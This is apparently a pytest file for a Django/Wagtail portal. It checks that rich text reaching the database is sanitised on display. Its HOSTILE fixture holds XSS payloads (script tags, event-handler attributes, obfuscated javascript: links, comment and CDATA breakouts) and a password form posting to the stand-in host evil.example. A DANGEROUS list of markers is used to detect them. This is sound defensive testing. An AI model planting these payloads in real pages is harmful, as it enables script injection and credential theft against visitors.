"""Rich text that reached the database without the editor is cleaned when shown."""

import pytest
from django.core.files.base import ContentFile
from wagtail.documents.models import Document

from portal.models import SiteSettings
from portal.security.rich_text import sanitise
from tests.factories import (
    EventPageFactory,
    FAQPageFactory,
    StandardPageFactory,
    StrategyPageFactory,
    paragraph,
)
from tests.funding.factories import FundingIndexPageFactory

HOSTILE = (
    "<p>Before<script>alert('script')</script></p>"
    '<p><img src="x" onerror="alert(\'img\')">'
    "<a href=\"javascript:alert('link')\">click</a>"
    "<a href=\"jav&#x09;ascript:alert('tab')\">tab</a>"
    "<b onmouseover=\"alert('hover')\">bold</b></p>"
    '<iframe src="https://evil.example/"></iframe>'
    "<svg onload=\"alert('svg')\"><circle/></svg>"
    "<style>body{display:none}</style>"
    "<![CDATA[><script>alert('cdata')</script>]]>"
    "<!--><script>alert('comment')</script>-->"
    '<p style="position:fixed" class="x" id="y">After</p>'
    '<form action="https://evil.example/"><input name="password"></form>'
)


# Each is in the hostile text and in no page of the portal.
DANGEROUS = [
    "<script>",
    "alert(",
    "ascript:",
    "onerror",
    "onload",
    "onmouseover",
    "<iframe",
    "<svg",
    "<style",
    "evil.example",
    "position:fixed",
    'name="password"',
]


def assert_harmless(html):
    lowered = html.lower()
    for dangerous in DANGEROUS:
        assert dangerous not in lowered, (dangerous, html)


def test_scripts_handlers_and_dangerous_links_are_removed():
    html = sanitise(HOSTILE)
    assert_harmless(html)
    assert html.startswith("<p>Before</p>")
    assert "<b>bold</b>" in html
    assert "<a>click</a>" in html
    assert "<p>After</p>" in html


@pytest.mark.parametrize(
    "html",
    [
        "<p>Don't “quote” me &amp; <br>you &lt;3</p>",
        '<p>Read <a href="/strategy/">the strategy</a>, <b>now</b>.</p>',
        "<h2>Heading</h2><ol><li><i>one</i></li></ol><ul><li>two</li></ul>",
        '<a href="mailto:info@example.org">Email us</a>',
        '<img alt="A chart" class="richtext-image left" height="100" '
        'src="/media/images/chart.png" width="200">',
        '<div class="responsive-object" style="padding-bottom: 56.25%;">'
        '<iframe allowfullscreen frameborder="0" height="270" '
        'src="https://www.youtube.com/embed/abc" title="A film" width="480">'
        "</iframe></div>",
    ],
)
def test_what_an_editor_can_make_is_kept_as_it_is(html):
    assert sanitise(html) == html


def test_an_embed_from_an_unknown_host_is_dropped_with_its_style():
    html = sanitise(
        '<div class="responsive-object" style="background:url(x)">'
        '<iframe src="http://www.youtube.com/embed/abc"></iframe></div>'
    )
    assert html == '<div class="responsive-object"></div>'


@pytest.mark.django_db
def test_a_page_body_and_its_faqs_are_shown_clean(client, home_page):
    strategy = StrategyPageFactory(parent=home_page, slug="strategy")
    page = StandardPageFactory(
        parent=home_page,
        slug="about",
        body=paragraph(
            HOSTILE + f'<p><a linktype="page" id="{strategy.pk}">Our strategy</a></p>'
        ),
    )
    faqs = FAQPageFactory(parent=home_page, slug="faqs")
    faqs.faqs = [
        (
            "group",
            {
                "heading": "Questions",
                "questions": [
                    {"question": "Safe?", "anchor": "", "answer": HOSTILE},
                ],
            },
        ),
    ]
    faqs.save_revision().publish()
    for url in (page.url, faqs.url):
        response = client.get(url)
        assert response.status_code == 200
        assert_harmless(response.content.decode())
        assert "<p>After</p>" in response.content.decode()
    body = client.get(page.url).content.decode()
    assert '<a href="/strategy/">Our strategy</a>' in body


@pytest.mark.django_db
def test_rich_text_fields_and_the_footer_are_shown_clean(client, home_page):
    document = Document.objects.create(
        title="Annual report", file=ContentFile(b"%PDF-1.4\n", name="report.pdf")
    )
    event = EventPageFactory(
        parent=home_page,
        slug="summit",
        outcome=HOSTILE
        + f'<p><a linktype="document" id="{document.pk}">The report</a></p>',
    )
    funding = FundingIndexPageFactory(parent=home_page, intro=HOSTILE)
    settings = SiteSettings.for_site(home_page.get_site())
    settings.footer_text = HOSTILE
    settings.save()
    for url in (event.url, funding.url):
        html = client.get(url).content.decode()
        assert_harmless(html)
        assert html.count("<p>After</p>") == 2  # the field and the footer
    assert (
        f'<a href="{document.url}">The report</a>'
        in client.get(event.url).content.decode()
    )
